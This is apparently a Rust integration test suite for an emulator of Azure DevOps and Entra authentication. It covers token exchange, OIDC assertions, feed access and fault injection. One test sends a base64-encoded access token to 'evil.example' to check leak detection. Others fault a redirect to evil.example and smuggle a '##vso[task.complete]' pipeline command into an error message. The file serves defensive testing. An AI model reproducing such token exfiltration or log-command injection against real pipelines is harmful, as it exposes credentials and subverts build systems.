//! What the services check and how they refuse, asked by curl.

#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use ado_entra_auth_emulator::faults::{ConnectionDataFault, EntraFault, OidcFault, TokenFault};
use ado_entra_auth_emulator::message::Answer;
use ado_entra_auth_emulator::world::{self, AssertionIssuer, FederatedCredential, NO_TENANT, TenantHeader};
use ado_entra_auth_emulator::{Effect, Emulator, Endpoint, Fault, Target, World};
use base64::{Engine, engine::general_purpose::STANDARD};
use common::{ask_assertion, ask_token, curl, job, oidc_address, token, try_curl};
use std::time::{Duration, Instant};

const DATA: &str = "https://dev.azure.com/contoso/_apis/connectionData?api-version=7.1-preview.1";
const NPM: &str = "https://pkgs.dev.azure.com/contoso/_packaging/feed1/npm/registry/hello-contoso";

fn start() -> Emulator {
    Emulator::start(World::sample()).unwrap()
}

fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {token}")
}

#[test]
fn starts_quickly_even_with_a_thousand_feeds() {
    let mut world = World::sample();
    for number in 0..1000 {
        let packages = world.organizations[0].feeds[0].packages.clone();
        world.organizations[0].feeds.push(world::Feed::new(&format!("many{number}")).with(packages));
    }
    let start = Instant::now();
    let emulator = Emulator::start(world).unwrap();
    assert!(start.elapsed() < Duration::from_millis(500), "{:?}", start.elapsed());
    let token = emulator.access_token(world::CLIENT).unwrap();
    let reply = curl(&emulator, &["-H", &bearer(&token), &NPM.replace("feed1", "many999")]);
    assert_eq!(reply.status, 200);
}

#[test]
fn an_assertion_becomes_a_token_that_opens_the_organization() {
    let emulator = start();
    let job = job(&emulator);
    let reply = ask_assertion(&emulator, &job, world::CONNECTION);
    let assertion = reply.json()["oidcToken"].as_str().unwrap().to_owned();
    let reply = ask_token(&emulator, "contoso.example", world::CLIENT, &assertion, &[]);
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.json()["expires_in"], 3599);
    let token = reply.json()["access_token"].as_str().unwrap().to_owned();
    assert!((1200..2000).contains(&token.len()), "{}", token.len());
    let reply = curl(&emulator, &["-H", &bearer(&token), DATA]);
    assert_eq!(reply.json()["authenticatedUser"]["providerDisplayName"], "contoso-feeds-reader");
    assert_eq!(reply.json()["instanceId"], world::CONTOSO_ID);
    assert!(!emulator.leaks_in(format!("see {token}").as_bytes()).is_empty());
    assert!(!emulator.leaks_in(STANDARD.encode(format!("x:{token}")).as_bytes()).is_empty());
    let forms: Vec<bool> = emulator.requests().iter().map(|r| r.authorization.is_token()).collect();
    assert_eq!(forms, [false, false, true]);
}

#[test]
fn the_oidc_request_is_checked() {
    let emulator = start();
    let job = job(&emulator);
    let address = format!("{}?api-version=7.1", oidc_address(&job));
    let good = bearer(&job.token);
    assert_eq!(ask_assertion(&emulator, &job, world::SECOND_CONNECTION).status, 404, "not referenced");
    assert_eq!(curl(&emulator, &["-H", &good, &address]).status, 405);
    let posted = ["-X", "POST", "-H", "Content-Length: 0"];
    let post = |more: &[&str]| curl(&emulator, &[&posted, more].concat());
    let suppressed = post(&["-H", "Authorization: Bearer x", "-H", "X-TFS-FedAuthRedirect: Suppress", &address]);
    assert_eq!(suppressed.status, 401);
    assert_eq!(suppressed.header("WWW-Authenticate").len(), 3);
    let redirected = post(&["-H", "Authorization: Bearer x", &address]);
    assert_eq!(redirected.status, 302);
    assert_eq!(curl(&emulator, &[&redirected.header("Location")[0]]).status, 203);
    let basic = format!("Authorization: Basic {}", STANDARD.encode(format!("x:{}", job.token)));
    assert_eq!(post(&["-H", &basic, "-H", "X-TFS-FedAuthRedirect: Suppress", &address]).status, 401);
    let unversioned = post(&["-H", &good, &oidc_address(&job)]);
    assert_eq!((unversioned.status, unversioned.body.contains("VssInvalidPreviewVersionException")), (400, true));
    let other = emulator.new_job("contoso", "Shop");
    assert_eq!(post(&["-H", &bearer(&other.token), &address]).status, 403, "a token of another job");
    emulator.end_job(&job);
    assert_eq!(ask_assertion(&emulator, &job, world::CONNECTION).status, 401);
}

fn subject(assertion: &str) -> serde_json::Value {
    let payload = assertion.split('.').nth(1).unwrap();
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(payload).unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

#[test]
fn assertions_have_the_forms_of_both_issuers() {
    let emulator = start();
    let job = job(&emulator);
    let ask = |id: &str| subject(ask_assertion(&emulator, &job, id).json()["oidcToken"].as_str().unwrap());
    let entra = ask(world::CONNECTION);
    assert_eq!(entra["aud"], "fb60f99c-7a34-4190-8149-302f77469936");
    assert!(entra["sub"].as_str().unwrap().starts_with("/eid1/c/pub/t/"));
    for pipeline in [ask(""), ask("feeds-reader")] {
        assert_eq!(pipeline["sub"], "p://contoso/Shop/build-shop");
    }
    emulator.change(|world| world.set_issuer(world::CONNECTION, AssertionIssuer::AzureDevOps));
    let old = ask(world::CONNECTION);
    assert_eq!(old["sub"], "sc://contoso/Shop/feeds-reader");
    assert_eq!(old["aud"], "api://AzureADTokenExchange");
    assert_eq!(old["exp"].as_i64().unwrap() - old["iat"].as_i64().unwrap(), 300);
    token(&emulator);
}

#[test]
fn entra_refuses_what_it_does_not_trust() {
    let emulator = start();
    let job = job(&emulator);
    let fresh = || ask_assertion(&emulator, &job, world::CONNECTION).json()["oidcToken"].as_str().unwrap().to_owned();
    let refusal = |tenant: &str, client: &str, assertion: &str, changes: &[(&str, &str)]| {
        let reply = ask_token(&emulator, tenant, client, assertion, changes);
        (
            reply.status,
            reply.json()["error_codes"][0].as_u64().unwrap_or(0),
            reply.json()["error"].as_str().unwrap_or("").to_owned(),
        )
    };
    let ok = fresh();
    let (t, c) = (world::TENANT, world::CLIENT);
    for (tenant, client, assertion, changes, wanted) in [
        ("44444444-0000-4000-8000-000000000000", c, ok.as_str(), vec![], (400, 90_002, "invalid_request")),
        ("nonsense", c, &ok, vec![], (400, 900_023, "invalid_request")),
        (world::OTHER_TENANT, c, &ok, vec![], (400, 700_016, "unauthorized_client")),
        (t, world::SECOND_CLIENT, &ok, vec![], (401, 700_213, "invalid_client")),
        (t, c, &ok, vec![("grant_type", "")], (400, 70_003, "unsupported_grant_type")),
        (t, c, &ok, vec![("client_assertion", "")], (401, 7_000_216, "invalid_client")),
        (t, c, &ok, vec![("client_assertion", ""), ("client_secret", "x")], (401, 7_000_215, "invalid_client")),
        (t, c, &ok, vec![("scope", "https://app.vssps.visualstudio.com/.default")], (400, 500_011, "invalid_resource")),
        (t, c, &ok, vec![("scope", "openid")], (400, 1_002_012, "invalid_scope")),
        (t, c, "x.y", vec![], (401, 50_027, "invalid_client")),
        (t, c, &format!("{}AAAA", &ok[..ok.len() - 4]), vec![], (401, 700_027, "invalid_client")),
    ] {
        let (status, code, error) = refusal(tenant, client, assertion, &changes);
        assert_eq!((status, code, error.as_str()), wanted, "{changes:?}");
    }
    emulator.fault(Fault::new(Endpoint::Oidc, Effect::Oidc(OidcFault::Expired)).times(1));
    assert_eq!(refusal(t, c, &fresh(), &[]).1, 700_024);
    emulator.fault(Fault::new(Endpoint::Oidc, Effect::Oidc(OidcFault::WrongSignature)).times(1));
    assert_eq!(refusal(t, c, &fresh(), &[]).1, 700_027);
    let trusted = emulator.world().application(c).unwrap().federated_credentials[0].clone();
    let with = |change: &dyn Fn(&mut FederatedCredential)| {
        let mut changed = trusted.clone();
        change(&mut changed);
        emulator.change(|world| world.application_mut(c).unwrap().federated_credentials = vec![changed]);
        refusal(t, c, &ok, &[]).1
    };
    assert_eq!(with(&|f| f.issuer += "/"), 700_211);
    assert_eq!(with(&|f| f.subject = f.subject.to_uppercase()), 7_002_138);
    assert_eq!(with(&|f| f.subject += "x"), 700_213);
    assert_eq!(with(&|f| f.audience = "api://AzureADTokenExchangeUSGov".into()), 700_212);
    emulator.change(|world| world.application_mut(c).unwrap().federated_credentials.clear());
    assert_eq!(refusal(t, c, &ok, &[]).1, 70_025);
    emulator.change(|world| world.application_mut(c).unwrap().disabled = true);
    assert_eq!(refusal(t, c, &ok, &[]).1, 7_000_112);
}

#[test]
fn organizations_let_in_their_users_only() {
    let emulator = start();
    let reader = emulator.access_token(world::CLIENT).unwrap();
    let ask = |token: &str, url: &str| curl(&emulator, &["-H", &bearer(token), url]);
    assert_eq!(ask(&reader, DATA).status, 200);
    assert_eq!(ask(&reader, &DATA.replace("contoso", "CONTOSO")).status, 200);
    let foreign = ask(&reader, &DATA.replace("contoso", "fabrikam"));
    assert_eq!((foreign.status, foreign.body.contains("TF401444")), (401, true));
    let anonymous = curl(&emulator, &["-I", "https://dev.azure.com/contoso"]);
    assert_eq!(anonymous.status, 401);
    assert_eq!(anonymous.header("X-VSS-ResourceTenant"), [world::TENANT]);
    let two = curl(&emulator, &["-H", &bearer(&reader), "-H", "Authorization: Basic eDp5", NPM]);
    assert_eq!((two.status, two.body.contains("Duplicate header")), (400, true));
    let password = |user: &str| format!("Authorization: Basic {}", STANDARD.encode(format!("{user}:{reader}")));
    assert_eq!(curl(&emulator, &["-H", &password("any"), NPM]).status, 200);
    assert_eq!(curl(&emulator, &["-H", &password(""), NPM]).status, 401);
    for (url, status) in [
        ("https://contoso.pkgs.visualstudio.com/_packaging/feed1/npm/registry/hello-contoso", 200),
        (
            "https://contoso.pkgs.visualstudio.com/DefaultCollection/_packaging/feed1@Release/npm/registry/hello-contoso",
            200,
        ),
        ("https://pkgs.dev.azure.com/Contoso/Shop/_packaging/TeamFeed/npm/registry/@contoso%2fhello", 200),
        ("https://pkgs.dev.azure.com/contoso/My%20Project/_packaging/blankfeed/npm/hello-contoso", 200),
        ("https://pkgs.dev.azure.com/contoso/_packaging/feed1~force-auth/npm/registry/hello-contoso", 200),
        ("https://pkgs.dev.azure.com/contoso/_packaging/feed1@Nightly/npm/registry/hello-contoso", 404),
        ("https://pkgs.dev.azure.com/contoso/_packaging/teamfeed/npm/registry/hello-contoso", 404),
        ("https://pkgs.dev.azure.com/fabrikam/_packaging/feed1/npm/registry/@fabrikam%2fplant", 401),
        ("https://pkgs.dev.azure.com/contoso/_packaging/forbidden/npm/registry/hello-contoso", 403),
        ("https://feeds.dev.azure.com/contoso/_apis/packaging/feeds/feed2?api-version=7.1", 200),
        ("https://feeds.dev.azure.com/contoso/_apis/packaging/feeds/nothing?api-version=7.1", 404),
        ("https://dev.azure.com/contoso/_apis/projects/Nowhere", 400),
    ] {
        let reply = ask(&reader, url);
        assert_eq!(reply.status, status, "{url} {reply:?}");
        if let Some(prefix) = url.strip_suffix("hello-contoso").filter(|_| status == 200) {
            assert!(reply.body.contains(&format!("\"tarball\":\"{prefix}hello-contoso/-/")), "{url} {}", reply.body);
        }
        assert!(status != 403 || reply.head.lines().next().unwrap().contains("ReadPackages"));
    }
    let job = job(&emulator);
    assert_eq!(ask(&job.token, NPM).status, 401, "the job token opens no feed");
}

#[test]
fn the_proxy_wants_its_password_and_knows_its_hosts() {
    let proxy_credentials = Some(("user".to_owned(), "p@ss word".to_owned()));
    let emulator = Emulator::start(World { proxy_credentials, ..World::sample() }).unwrap();
    assert_eq!(curl(&emulator, &[DATA]).status, 401);
    assert!(try_curl(&emulator, &["--proxy", &emulator.proxy_url(), DATA]).is_err());
    let refused: Vec<u16> = emulator.connects().iter().map(|c| c.status).filter(|s| *s != 200).collect();
    assert!(refused.contains(&407), "{refused:?}");
    let emulator = start();
    assert!(try_curl(&emulator, &["https://unknown.example/"]).is_err());
    assert_eq!(curl(&emulator, &["http://unknown.example/"]).status, 403);
    let statuses: Vec<u16> = emulator.connects().iter().map(|c| c.status).collect();
    assert_eq!(statuses, [502, 403]);
}

#[test]
fn faults_strike_where_and_as_often_as_told() {
    let emulator = start();
    let token = emulator.access_token(world::CLIENT).unwrap();
    let ask = || try_curl(&emulator, &["-H", &bearer(&token), DATA]);
    let data = |effect| Fault::new(Endpoint::ConnectionData, effect);
    let fault = emulator.fault(data(Effect::answer(Answer::status(503))).skip(1).times(2));
    let statuses: Vec<u16> = (0..4).map(|_| ask().unwrap().status).collect();
    assert_eq!(statuses, [200, 503, 503, 200]);
    assert_eq!(emulator.fired(fault), 2);
    for (effect, code) in [
        (Effect::Reset, 56),
        (Effect::Truncated, 18),
        (Effect::UnknownAuthority, 60),
        (Effect::ConnectRefused(403), 56),
    ] {
        let target = Target::Host("dev.azure.com".into());
        emulator.fault(Fault::new(target, effect.clone()).times(1));
        let failed = ask().unwrap_err();
        assert!(failed == code || failed == 52 || failed == 92, "{effect:?}: {failed}");
        assert_eq!(ask().unwrap().status, 200);
    }
    emulator.fault(data(Effect::HugeBody(10_000_000)).times(1));
    assert_eq!(ask().unwrap().body.len(), 10_000_000);
    emulator.fault(data(Effect::Delay(Duration::from_millis(300))).times(1));
    let start = Instant::now();
    assert_eq!(ask().unwrap().status, 200);
    assert!(start.elapsed() >= Duration::from_millis(300));
    emulator.fault(data(Effect::Trickle(Duration::from_millis(200))));
    assert_eq!(try_curl(&emulator, &["-H", &bearer(&token), "--max-time", "1", DATA]).unwrap_err(), 28);
    emulator.end_faults();
    for (kind, status, text) in [
        (ConnectionDataFault::Anonymous, 200, "aaaaaaaa-aaaa"),
        (ConnectionDataFault::NotAUser, 401, "TF401444"),
        (ConnectionDataFault::Unauthorized, 401, "TF400813"),
        (ConnectionDataFault::EmptyBasic, 401, ""),
        (ConnectionDataFault::ServiceErrorHeader, 401, "<html>"),
        (ConnectionDataFault::ConditionalAccess, 403, "VS403463"),
        (ConnectionDataFault::ConditionalAccessPage, 403, "<title>VS403463"),
        (ConnectionDataFault::Throttled, 429, "TF400733"),
        (ConnectionDataFault::Delayed, 200, "instanceId"),
    ] {
        emulator.fault(data(Effect::ConnectionData(kind.clone())).times(1));
        let reply = ask().unwrap();
        assert!(reply.status == status && reply.body.contains(text), "{kind:?} {reply:?}");
    }
    emulator.fault(data(Effect::Redirect(307, "evil.example".into())).times(1));
    assert_eq!(ask().unwrap().header("location"), [DATA.replace("dev.azure.com", "evil.example")]);
    emulator.fault(data(Effect::SignInPage).times(1));
    assert_eq!(ask().unwrap().status, 203);
}

#[test]
fn answers_of_oidc_and_entra_come_in_odd_shapes() {
    let emulator = start();
    let job = job(&emulator);
    let good = ask_assertion(&emulator, &job, world::CONNECTION).json()["oidcToken"].as_str().unwrap().to_owned();
    for (fault, text) in [
        (OidcFault::EmptyObject, "{}"),
        (OidcFault::EmptyToken, "{\"oidcToken\":\"\"}"),
        (OidcFault::NotReferencedInStage(200), "no explicit reference"),
        (OidcFault::PlanSecurity(403), "TaskOrchestrationPlanSecurityException"),
    ] {
        emulator.fault(Fault::new(Endpoint::Oidc, Effect::Oidc(fault)).times(1));
        let reply = ask_assertion(&emulator, &job, world::CONNECTION);
        assert!(reply.body.contains(text), "{reply:?}");
    }
    let ask = || ask_token(&emulator, world::TENANT, world::CLIENT, &good, &[]);
    let order = |fault| emulator.fault(Fault::new(Endpoint::Token, fault).times(1));
    order(Effect::Token(TokenFault::ExpiresInText));
    assert_eq!(ask().json()["expires_in"], "3599");
    order(Effect::Token(TokenFault::NoAccessToken));
    assert!(ask().json().get("access_token").is_none());
    order(Effect::Token(TokenFault::Padding(20_000)));
    assert!(ask().json()["access_token"].as_str().unwrap().len() > 20_000);
    order(Effect::Token(TokenFault::Life(-5)));
    let dead = ask().json()["access_token"].as_str().unwrap().to_owned();
    assert_eq!(curl(&emulator, &["-H", &bearer(&dead), DATA]).status, 401);
    order(Effect::Token(TokenFault::NotAJwt));
    let opaque = ask().json()["access_token"].as_str().unwrap().to_owned();
    assert_eq!(curl(&emulator, &["-H", &bearer(&opaque), DATA]).status, 200);
    order(Effect::Entra(EntraFault {
        line_breaks: true,
        text: Some("##vso[task.complete]".into()),
        ..EntraFault::code(53_003)
    }));
    let reply = ask();
    assert_eq!(reply.status, 400);
    assert!(reply.json()["error_description"].as_str().unwrap().contains("##vso[task.complete]\r\nTrace ID: "));
    emulator.fault(Fault::new(Endpoint::Token, Effect::entra(700_213)).times(2));
    let codes: Vec<u16> = (0..3).map(|_| ask().status).collect();
    assert_eq!(codes, [401, 401, 200]);
    order(Effect::TooManyRequests(Some(60)));
    let reply = ask();
    assert_eq!(
        (reply.status, reply.header("retry-after"), reply.header("content-type")),
        (429, vec!["60".into()], vec!["text/plain".into()])
    );
}

#[test]
fn foreign_hosts_note_what_they_are_sent() {
    let emulator = start();
    let token = emulator.access_token(world::CLIENT).unwrap();
    let url = "https://registry.example.com/npm/hello-contoso";
    assert_eq!(curl(&emulator, &[url]).status, 200);
    assert!(!emulator.secret_was_sent_to("registry.example.com"));
    assert_eq!(curl(&emulator, &["-H", &bearer(&token), url]).status, 200);
    assert!(emulator.secret_was_sent_to("registry.example.com"));
    emulator.clear_requests();
    curl(&emulator, &[&format!("https://evil.example/x?{}", STANDARD.encode(format!(":{token}")).replace('=', ""))]);
    assert!(emulator.secret_was_sent_to("evil.example"));
    let maven = "https://registry.example.com/maven/org/example/left-behind/1.0.0/left-behind-1.0.0.pom";
    assert_eq!(curl(&emulator, &[maven]).status, 200);
    assert_eq!(curl(&emulator, &[&format!("{maven}.sha1")]).body.len(), 40);
    assert_eq!(curl(&emulator, &["https://registry.example.com/nuget/v3/index.json"]).status, 200);
}

#[test]
fn the_tenant_is_named_as_the_world_says() {
    let emulator = start();
    for (header, on_head, on_get) in [
        (TenantHeader::Always, 1, 1),
        (TenantHeader::HeadOnly, 1, 0),
        (TenantHeader::GetOnly, 0, 1),
        (TenantHeader::Absent, 0, 0),
    ] {
        emulator.change(|world| world.tenant_header = header);
        let count = |arguments: &[&str]| curl(&emulator, arguments).header("X-VSS-ResourceTenant").len();
        assert_eq!((count(&["-I", NPM]), count(&[NPM])), (on_head, on_get), "{header:?}");
    }
    emulator.change(|world| {
        world.tenant_header = TenantHeader::Always;
        world.organizations[0].tenant = NO_TENANT.into();
    });
    assert_eq!(
        curl(&emulator, &["-I", "https://contoso.visualstudio.com/"]).header("X-VSS-ResourceTenant"),
        [NO_TENANT]
    );
}

#[test]
fn keys_are_published() {
    let emulator = start();
    for url in [
        "https://vstoken.dev.azure.com/0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9/.well-known/openid-configuration",
        "https://login.microsoftonline.com/contoso.example/v2.0/.well-known/openid-configuration",
    ] {
        let document = curl(&emulator, &[url]).json();
        let keys = curl(&emulator, &[document["jwks_uri"].as_str().unwrap()]).json();
        assert_eq!(keys["keys"][0]["kty"], "RSA", "{document}");
    }
    let authority = "https://login.microsoftonline.com";
    let ask = |path: &str| curl(&emulator, &[&format!("{authority}/{path}")]);
    let tenant = ask("contoso.example/v2.0/.well-known/openid-configuration").json();
    assert_eq!(tenant["issuer"], format!("{authority}/{}/v2.0", world::TENANT), "the id, whatever it was called");
    assert_eq!(tenant["token_endpoint"], format!("{authority}/{}/oauth2/v2.0/token", world::TENANT));
    let unknown = ask("nowhere.example/v2.0/.well-known/openid-configuration");
    assert_eq!((unknown.status, unknown.json()["error_codes"][0].as_u64()), (400, Some(90_002)));
    let instance = |host: &str| {
        ask(&format!(
            "common/discovery/instance?api-version=1.1&authorization_endpoint=https://{host}/contoso.example/oauth2/v2.0/authorize"
        ))
    };
    let known = instance("login.windows.net").json();
    let document = "https://login.windows.net/contoso.example/v2.0/.well-known/openid-configuration";
    assert_eq!(known["tenant_discovery_endpoint"], document);
    assert_eq!(curl(&emulator, &[document]).status, 200);
    assert_eq!(instance("login.evil.example").json()["error"], "invalid_instance");
}

#[test]
fn a_python_index_lists_and_hands_out_files_in_both_forms_and_takes_new_ones() {
    let emulator = start();
    let token = emulator.access_token(world::CLIENT).unwrap();
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/feed1/pypi";
    let user = format!("any:{token}");
    let refused = curl(&emulator, &[&format!("{feed}/simple/contoso-hello/")]);
    assert_eq!(refused.status, 401);
    let get = |path: &str, more: &[&str]| {
        let url = format!("{feed}/{path}");
        curl(&emulator, &[&["-u", &user, &url], more].concat())
    };
    let page = get("simple/Contoso_Hello/", &[]);
    let link = page.body.split('"').find(|part| part.contains("/download/")).unwrap().to_owned();
    let json = get("simple/contoso-hello/", &["-H", "Accept: application/vnd.pypi.simple.v1+json"]).json();
    let file = &json["files"][0];
    let (url, sha256) = (file["url"].as_str().unwrap(), file["hashes"]["sha256"].as_str().unwrap());
    assert_eq!(link, format!("{url}#sha256={sha256}"));
    assert_eq!(get(url.strip_prefix(&format!("{feed}/")).unwrap(), &["-I"]).status, 200);
    assert_eq!(get("simple/nothing/", &[]).status, 404);
    let form =
        ["-F", ":action=file_upload", "-F", "name=fresh", "-F", "version=1", "-F", "content=x;filename=fresh-1.tar.gz"];
    assert_eq!(get("upload/", &form).status, 202);
    assert_eq!(get("upload/", &form).status, 409);
    assert_eq!(get("upload/", &["-F", "name=fresh"]).status, 400);
    assert_eq!(get("download/fresh/1/fresh-1.tar.gz", &[]).body, "x");
}
